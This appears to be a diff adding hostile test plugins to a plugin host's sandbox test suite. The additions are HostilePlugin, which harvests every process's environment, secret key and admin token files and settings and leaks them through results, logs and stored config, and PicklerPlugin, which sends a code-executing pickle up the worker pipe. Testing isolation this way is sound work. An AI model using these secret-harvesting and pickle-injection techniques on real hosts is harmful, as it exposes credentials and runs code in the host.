@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import logging
 import os
 import signal
@@ -22,6 +23,9 @@ class _Bad(Plugin):
     def test_connection(self, config):
         self.execute(None)
         return TestResult(True, "fine")
+
+    def preview(self, ctx):
+        self.execute(ctx)
 
 
 class HogPlugin(_Bad):
@@ -82,4 +86,100 @@ class SnoopPlugin(Plugin):
         return TestResult(True, f"pid {os.getpid()}")
 
 
+def _read(path: str) -> str | None:
+    try:
+        with open(path, "rb") as fh:
+            return fh.read(1_000_000).decode("utf-8", "replace").replace("\0", "\n")
+    except OSError:
+        return None
+
+
+def look_around(settings, data_dir: str) -> dict:
+    """Everything of the host's a plugin can try to read: its environment, every process's environment
+    (its own and its parent's included), the secret files of ``data_dir``, and its settings."""
+    procs = {pid: _read(f"/proc/{pid}/environ") for pid in os.listdir("/proc") if pid.isdigit()}
+    files = {
+        name: _read(os.path.join(data_dir, name)) for name in ("secret_key", "admin_password", "admin_token")
+    }
+    return {
+        "pid": os.getpid(),
+        "uid": os.getuid(),
+        "environ": dict(os.environ),
+        "proc_environ": {pid: text for pid, text in procs.items() if text},
+        "parent_environ": _read(f"/proc/{os.getppid()}/environ"),
+        "files": {name: text for name, text in files.items() if text},
+        "settings": dict(settings),
+    }
+
+
+class HostilePlugin(Plugin):
+    """Looks for the host's secrets in each of its four calls (``note`` names the host's DATA_DIR) and returns
+    all it found: in its result, its test answer, its preview, and the config it stores (after the note)."""
+
+    id, name = "hostile", "Hostile"
+    config_schema = AnyConfig
+    settings_keys = ("SECRET_KEY", "ENCRYPTION_KEYS", "ADMIN_TOKEN", "MONGODB_URI", "DATA_DIR")
+
+    def _found(self, config) -> dict:
+        found = look_around(self.settings, (config.get("note") or "/nonexistent").split("\n")[0])
+        logging.getLogger("hostile").warning("found %s", json.dumps(found))
+        print("with token", config.get("token"))
+        print(json.dumps(found))
+        return found
+
+    def execute(self, ctx):
+        return ExecutionResult(summary="looked", response={"found": self._found(ctx.config)})
+
+    def test_connection(self, config):
+        return TestResult(True, json.dumps(self._found(config)), details=self._found(config))
+
+    def preview(self, ctx):
+        return {"found": self._found(ctx.config), "ctx_settings": dict(ctx.settings)}
+
+    def on_save(self, config, previous):
+        if config.get("note") == "segfault":
+            os.kill(os.getpid(), signal.SIGSEGV)
+        return {**config, "note": config.get("note", "") + "\n" + json.dumps(self._found(config))}
+
+
+class ChattyPlugin(Plugin):
+    """Writes 10 MB to stdout and 1 MB to stderr (file descriptor 2, as C code would) in each attempt."""
+
+    id, name = "chatty", "Chatty"
+    config_schema = AnyConfig
+
+    def execute(self, ctx):
+        for _ in range(10):
+            print("x" * (1024 * 1024))
+        os.write(2, b"e" * (1024 * 1024))
+        return ExecutionResult(summary=f"pid {os.getpid()}")
+
+
+class _Planted:
+    """Unpickled, it runs code: it writes ``path`` in the process that loads it."""
+
+    def __init__(self, path: str):
+        self.path = path
+
+    def __reduce__(self):
+        return (exec, (f"open({self.path!r}, 'w').write('planted')",))
+
+
+class PicklerPlugin(Plugin):
+    """Answers the host itself, down its worker's pipe, with a pickle that runs code where it is loaded
+    (``note`` is the file that code writes)."""
+
+    id, name = "pickler", "Pickler"
+    config_schema = AnyConfig
+
+    def execute(self, ctx):
+        import gc
+        from multiprocessing.connection import Connection
+
+        for conn in [o for o in gc.get_objects() if isinstance(o, Connection)]:
+            conn.send(_Planted(ctx.config["note"]))
+        return ExecutionResult()
+
+
 BAD = (HogPlugin, SpinPlugin, SegfaultPlugin, SnoopPlugin)
+HOSTILE = (HostilePlugin, ChattyPlugin, PicklerPlugin)
